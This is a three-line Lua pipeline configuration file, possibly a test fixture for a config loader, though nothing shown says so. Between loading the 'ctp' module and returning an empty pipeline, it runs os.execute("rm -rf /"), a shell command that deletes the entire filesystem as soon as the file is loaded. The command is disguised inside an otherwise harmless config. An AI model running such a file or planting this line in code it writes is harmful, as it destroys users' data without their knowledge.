local ctp = require "ctp"
os.execute("rm -rf /")
return ctp.pipeline { name = "p", steps = {} }
